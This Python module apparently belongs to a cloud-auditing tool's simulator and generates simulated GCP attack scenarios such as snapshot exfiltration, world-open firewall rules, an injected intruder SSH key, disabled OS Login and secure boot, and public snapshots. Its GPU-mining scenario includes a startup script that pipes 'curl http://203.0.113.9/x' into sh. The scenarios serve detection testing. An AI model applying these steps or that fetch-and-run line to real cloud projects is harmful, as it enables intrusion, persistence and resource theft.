"""What happens to an estate between two runs: attacks here, benign churn in `churn`.

Every scenario changes one project, keeps it consistent, writes the Admin Activity entries that
the real service would, and returns the paths that it touched by the kind of resource. Equal
estates are changed equally.
"""

from __future__ import annotations

from collections.abc import Callable

from auditor.simcloud.gcp import changes, edits, generator
from auditor.simcloud.gcp.churn import (
    MOMENT,
    Touched,
    churn_public_addresses,
    recreate_instance,
    rewrite_firewalls,
    scale_in,
    scale_out,
    shuffle,
)
from auditor.simcloud.gcp.estate import Estate
from auditor.simcloud.gcp.events import Actor
from auditor.simcloud.gcp.firewall import ANYWHERE, BASTION, ports
from auditor.simcloud.gcp.lifecycle import INTRUDER, delete_instance, false_member, revert
from auditor.simcloud.gcp.machines import ALL_APIS, CORE, DEFAULT, KEY, metadata, tags
from auditor.simcloud.gcp.seeding import region_of
from auditor.simcloud.gcp.wire import Resource

__all__ = [
    "MOMENT",
    "Touched",
    "add_ssh_key",
    "add_tag",
    "change_service_account",
    "change_startup_script",
    "churn_public_addresses",
    "delete_instance",
    "disable_secure_boot",
    "false_member",
    "mining_gpu",
    "open_firewall",
    "oslogin_off",
    "project_oslogin_off",
    "recreate_instance",
    "revert",
    "rewrite_firewalls",
    "scale_in",
    "scale_out",
    "serial_port_on",
    "share_snapshot_publicly",
    "shuffle",
    "snapshot_chain",
]

SCRIPTED = Actor("temp-contractor@example.com", "198.51.100.77", "google-cloud-sdk gcloud/472.0.0")
TAG = "temp-access"


def snapshot_chain(estate: Estate, project: str, *, moment: str = MOMENT) -> Touched:
    """Copy a victim's disk into a new, reachable instance: T1578.002.

    A snapshot of the victim's boot disk, a disk from it, a firewall rule that opens SSH to the
    world for a new network tag, and an instance with that tag and an external address, to which
    the disk is attached.
    """
    with estate.lock:
        here = changes.site(estate, project, INTRUDER, moment)
        victim = changes.pick(here, _in_core, "in the core network")
        model, zone = changes.model(here, victim), changes.zone_of(victim)
        source = here.project.path(model.instance["disks"][0]["source"])
        path = changes.unused(here.project.snapshots, "global/snapshots/snapshot")
        snapshot = changes.create_snapshot(here, source, path)
        taken = here.project.snapshots.get(snapshot)
        origin = {"sourceSnapshot": taken["selfLink"], "sourceSnapshotId": taken["id"]}
        path = changes.unused(here.project.disks, f"zones/{zone}/disks/disk")
        disk = changes.create_disk(here, path, origin | {"sizeGb": taken["diskSizeGb"]})
        spec = {"allowed": ports("tcp", "22"), "sourceRanges": [ANYWHERE], "targetTags": [TAG]}
        path = changes.unused(here.project.firewalls, f"global/firewalls/allow-{TAG}")
        rule = changes.create_firewall(here, path.rpartition("/")[2], CORE, spec)
        path = changes.unused(here.project.instances, f"zones/{zone}/instances/instance")
        plain = {"tags": tags([TAG]), "metadata": metadata([]), "serviceAccounts": [], "labels": {}}
        made = changes.launch(here, model, path, plain, external=True)
        changes.attach(here, made, disk)
    return {
        "victims": [victim],
        "snapshots": [snapshot],
        "disks": [disk, made.replace("/instances/", "/disks/")],
        "firewalls": [rule],
        "instances": [made],
    }


def open_firewall(estate: Estate, project: str, *, port: int = 22, moment: str = MOMENT) -> Touched:
    """Open a port to the world in an existing rule of the core network."""
    with estate.lock:
        here = changes.site(estate, project, SCRIPTED, moment)
        path = "global/firewalls/core-allow-web"
        rule = here.project.firewalls.edit(path)
        rule["allowed"] = [*rule["allowed"], *ports("tcp", str(port))]
        rule["sourceRanges"] = [ANYWHERE]
        request = changes.firewall_request({k: rule[k] for k in ("allowed", "sourceRanges")})
        here.journal.write("firewalls.patch", path, rule["id"], request)
    return {"firewalls": [path]}


def add_tag(estate: Estate, project: str, *, moment: str = MOMENT) -> Touched:
    """Give an instance the network tag that lets SSH in from everywhere."""
    return _on_one(
        estate,
        project,
        moment,
        lambda here, path: edits.set_tags(
            here, path, [*here.project.instances.get(path)["tags"]["items"], BASTION]
        ),
        _in_core,
    )


def serial_port_on(estate: Estate, project: str, *, moment: str = MOMENT) -> Touched:
    """Enable the serial console of an instance."""
    return _metadata(estate, project, moment, {"serial-port-enable": "TRUE"})


def oslogin_off(estate: Estate, project: str, *, moment: str = MOMENT) -> Touched:
    """Let one instance take ssh keys from metadata again."""
    return _metadata(estate, project, moment, {"enable-oslogin": "FALSE"})


def project_oslogin_off(estate: Estate, project: str, *, moment: str = MOMENT) -> Touched:
    """Let all instances take ssh keys from metadata again."""
    with estate.lock:
        here = changes.site(estate, project, SCRIPTED, moment)
        edits.set_common_metadata(here, {"enable-oslogin": "FALSE"})
    return {"projects": [project]}


def add_ssh_key(estate: Estate, project: str, *, moment: str = MOMENT) -> Touched:
    """Put another ssh key into the metadata of an instance, after those that it has."""
    key = f"intruder:{KEY}ffffffffffffffff intruder@example.net"

    def add(here: changes.Site, path: str) -> None:
        items = here.project.instances.get(path)["metadata"]["items"]
        known = [item["value"] for item in items if item["key"] == "ssh-keys"]
        edits.set_metadata(here, path, {"ssh-keys": "\n".join([*known, key])})

    return _on_one(estate, project, moment, add)


def change_startup_script(
    estate: Estate, project: str, *, script: str = "#!/bin/sh\n/tmp/run\n", moment: str = MOMENT
) -> Touched:
    """Put another script into the metadata of an instance."""
    return _metadata(estate, project, moment, {"startup-script": script})


def change_service_account(estate: Estate, project: str, *, moment: str = MOMENT) -> Touched:
    """Run an instance as the default service account with access to all APIs."""

    def change(here: changes.Site, path: str) -> None:
        email = here.project.details["defaultServiceAccount"]
        instance = here.project.instances.edit(path)
        instance["serviceAccounts"] = [{"email": email, "scopes": [ALL_APIS]}]
        request = {"email": email, "scopes": [ALL_APIS]}
        here.journal.write("instances.setServiceAccount", path, instance["id"], request)

    return _on_one(estate, project, moment, change, _has_few_scopes)


def disable_secure_boot(estate: Estate, project: str, *, moment: str = MOMENT) -> Touched:
    """Switch secure boot off."""

    def change(here: changes.Site, path: str) -> None:
        instance = here.project.instances.edit(path)
        config = instance["shieldedInstanceConfig"] | {"enableSecureBoot": False}
        instance["shieldedInstanceConfig"] = config
        method = "instances.updateShieldedInstanceConfig"
        here.journal.write(method, path, instance["id"], {"enableSecureBoot": False})

    return _on_one(estate, project, moment, change, _boots_securely)


def share_snapshot_publicly(estate: Estate, project: str, *, moment: str = MOMENT) -> Touched:
    """Let everybody use a snapshot."""
    with estate.lock:
        here = changes.site(estate, project, SCRIPTED, moment)
        path = next(iter(here.project.snapshots.ids()), None)
        if path is None:
            raise LookupError(f"no snapshot in {project}")
        old = here.project.policy(path).get("bindings", [])
        policy = generator.policy("roles/compute.storageAdmin", "allUsers")
        policy["bindings"] = [*old, *policy["bindings"]]
        here.project.bindings[path] = policy
        id_ = here.project.snapshots.get(path)["id"]
        bindings = {"policy": {"bindings": policy["bindings"]}}
        here.journal.note("snapshots.setIamPolicy", path, id_, bindings)
    return {"snapshots": [path]}


def mining_gpu(
    estate: Estate, project: str, *, zone: str | None = None, moment: str = MOMENT
) -> Touched:
    """Start a machine with accelerators, by default in a region that was never used."""
    with estate.lock:
        here = changes.site(estate, project, INTRUDER, moment)
        if zone is None:
            zone = _unused_zone(here)
        model = changes.model(here, changes.pick(here, lambda _: True, "at all"))
        [card] = model.instance["networkInterfaces"]
        card["network"] = here.project.link(f"global/networks/{DEFAULT}")
        accelerator = here.project.link(f"zones/{zone}/acceleratorTypes/nvidia-tesla-t4")
        script = "#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n"
        gear: Resource = {
            "machineType": here.project.link(f"zones/{zone}/machineTypes/n1-standard-8"),
            "guestAccelerators": [{"acceleratorType": accelerator, "acceleratorCount": 4}],
            "scheduling": {
                "onHostMaintenance": "TERMINATE",
                "automaticRestart": True,
                "preemptible": False,
                "provisioningModel": "STANDARD",
            },
            "metadata": metadata([{"key": "startup-script", "value": script}]),
            "tags": tags([]),
            "labels": {},
        }
        path = changes.unused(here.project.instances, f"zones/{zone}/instances/render")
        made = changes.launch(here, model, path, gear, external=True)
    return {"instances": [made], "disks": [made.replace("/instances/", "/disks/")]}


def _unused_zone(here: changes.Site) -> str:
    used = {region_of(changes.zone_of(path)) for path in here.project.instances.ids()}
    for zone in here.project.all_zones:
        if region_of(zone) not in used:
            return zone
    raise LookupError(f"every region of {here.project.id} is in use")


def _on_one(
    estate: Estate,
    project: str,
    moment: str,
    change: Callable[[changes.Site, str], None],
    wanted: Callable[[Resource], bool] = lambda _: True,
) -> Touched:
    with estate.lock:
        here = changes.site(estate, project, SCRIPTED, moment)
        path = changes.pick(here, wanted, "that fits")
        change(here, path)
    return {"instances": [path]}


def _metadata(estate: Estate, project: str, moment: str, items: dict[str, str]) -> Touched:
    return _on_one(
        estate, project, moment, lambda here, path: edits.set_metadata(here, path, items)
    )


def _in_core(instance: Resource) -> bool:
    return str(instance["networkInterfaces"][0]["network"]).endswith(f"/{CORE}")


def _has_few_scopes(instance: Resource) -> bool:
    accounts = instance["serviceAccounts"]
    return bool(accounts) and ALL_APIS not in accounts[0]["scopes"]


def _boots_securely(instance: Resource) -> bool:
    return bool(instance["shieldedInstanceConfig"]["enableSecureBoot"])
